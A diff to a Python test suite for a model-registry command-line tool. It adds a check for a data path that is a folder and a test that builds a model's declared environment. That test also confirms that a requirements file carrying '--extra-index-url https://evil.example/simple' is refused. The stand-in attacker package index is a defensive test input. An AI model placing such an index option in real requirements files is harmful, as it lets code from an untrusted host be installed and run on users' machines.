@@ -215,6 +215,7 @@ def _bad_npz(path: Path) -> Path:
     (["m", "--data", "{good}"], 2, "give a version, NAME@VERSION"),
     (["../m@1.0.0", "--data", "{good}"], 2, "../m"),
     (["m@1.0.0", "--data", "{tmp}/missing.npz"], 2, "missing.npz: no such file"),
+    (["m@1.0.0", "--data", "{tmp}/folder.npz"], 2, "folder.npz: not a regular file"),
     (["m@1.0.0", "--data", "{tmp}/data.txt"], 2, "use an .npz (arrays x and y) or a .csv"),
     (["m@1.0.0", "--data", "{tmp}/garbage.npz"], 1, "garbage.npz is not a readable .npz"),
     (["m@1.0.0", "--data", "{tmp}/nolabels.npz"], 1, "nolabels.npz has no array y (needs x and y)"),
@@ -229,6 +230,7 @@ def test_bad_input(gated: Path, tmp_path: Path, cli: Callable[..., Result], args
     on_main(gated, config=WITH_DRIFT)
     write_holdout(tmp_path / "good.npz", 19)
     (tmp_path / "data.txt").write_text("x\n")
+    (tmp_path / "folder.npz").mkdir()
     (tmp_path / "garbage.npz").write_bytes(b"not a zip at all")
     _bad_npz(tmp_path / "nolabels.npz")
     (tmp_path / "nolabels.csv").write_text("a,b\n1,2\n")
@@ -322,3 +324,20 @@ def test_a_fresh_clone_pulls_the_versions_dvc_files_first(gated: Path, tmp_path:
     assert rows(result.out)["accuracy"][:2] == ["0.9500", "0.9500"]
     assert (clone / "models/m/1.1.0/big.safetensors").stat().st_size == big.stat().st_size
     assert git(clone, "status", "--porcelain") == ""
+
+
+def test_the_model_runs_in_its_declared_environment(gated: Path, tmp_path: Path, cli: Callable[..., Result],
+                                                    cache: Path) -> None:
+    requirements = tmp_path / "requirements.txt"
+    requirements.write_text("# nothing beyond the stdlib\n")  # no NumPy there: the registry's is not lent
+    register(cli, gated, tmp_path, "1.1.0", extra=[requirements], card_extra="environment: requirements.txt\n")
+    write_holdout(tmp_path / "new.npz", 19)
+    result = evaluate(cli, gated, "m@1.1.0", "--data", str(tmp_path / "new.npz"))
+    assert result.code == 1 and "add numpy to its requirements file" in result.err, result.err
+    assert any(cache.iterdir())  # the environment was built (and is reused next time)
+
+    requirements.write_text("numpy\n--extra-index-url https://evil.example/simple\n")
+    register(cli, gated, tmp_path, "1.2.0", extra=[requirements], card_extra="environment: requirements.txt\n")
+    refused = evaluate(cli, gated, "m@1.2.0", "--data", str(tmp_path / "new.npz"))
+    assert refused.code == 1
+    assert "environment: models/m/1.2.0/requirements.txt:2: the option --extra-index-url is not allowed" in refused.err
